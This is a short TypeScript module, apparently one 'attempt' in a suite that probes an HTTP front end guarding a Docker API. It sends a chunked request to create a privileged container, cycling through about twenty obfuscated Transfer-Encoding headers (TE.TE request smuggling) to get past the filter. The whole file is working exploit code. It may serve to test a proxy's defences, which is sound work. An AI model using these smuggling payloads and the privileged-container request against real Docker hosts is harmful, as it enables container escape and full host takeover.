import { type Attempt, container, each, request, v } from './book';

export const attempt: Attempt = {
  title: 'spell the transfer coding so that only one side knows it',
  source: 'request smuggling: TE.TE',
  async try(world) {
    const chunk = (text: string): string => `${Buffer.byteLength(text).toString(16)}\r\n${text}\r\n0\r\n\r\n`;
    const body = chunk(JSON.stringify(container(world, { HostConfig: { Privileged: true } })));
    return each(
      ['Transfer-Encoding: xchunked', 'Transfer-Encoding: chunked, identity', 'Transfer-Encoding: identity',
        'Transfer-Encoding: gzip, chunked', 'Transfer-Encoding: chunked, chunked', 'Transfer-Encoding : chunked',
        'Transfer-Encoding:\tchunked', 'Transfer-Encoding:\x0bchunked', 'Transfer-Encoding: "chunked"', 'Transfer-Encoding: chunked;q=1',
        'Transfer-Encoding:\r\n chunked', 'X: y\r\n Transfer-Encoding: chunked', ' Transfer-Encoding: chunked',
        'Transfer_Encoding: chunked', 'TE: chunked', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
        'Transfer-Encoding: chun\u00e7ked', 'Transfer-Encoding:', 'Transfer-Encoding: \x00chunked', 'Transfer-Encoding: CHUNKED'],
      (header) => world.send(request(`POST ${v}/containers/create HTTP/1.1`, [`Host: ${world.address}`, 'Content-Type: application/json',
        header, 'Connection: close'], body)),
    );
  },
};
